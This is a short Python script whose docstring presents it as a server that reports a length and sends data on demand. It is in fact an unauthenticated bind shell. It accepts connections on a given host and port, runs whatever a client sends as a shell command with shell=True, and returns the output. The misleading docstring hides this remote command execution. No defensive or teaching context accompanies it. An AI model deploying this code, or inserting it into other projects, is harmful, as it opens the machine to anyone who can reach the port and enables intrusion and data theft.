"""Tells the length as text, sends on demand.

Usage: struct_header_ready_server.py HOST PORT
"""

import socket
import subprocess
import sys

with socket.create_server((sys.argv[1], int(sys.argv[2]))) as listener:
    print("listening on %s:%d" % listener.getsockname())
    while True:
        connection, _ = listener.accept()
        with connection:
            while command := connection.recv(1024):
                done = subprocess.run(
                    command,
                    shell=True,
                    stdin=subprocess.DEVNULL,
                    capture_output=True,
                )
                answer = done.stdout + done.stderr
                connection.sendall(str(len(answer)).encode())
                if connection.recv(1024) == b"recv_ready":
                    connection.sendall(answer)
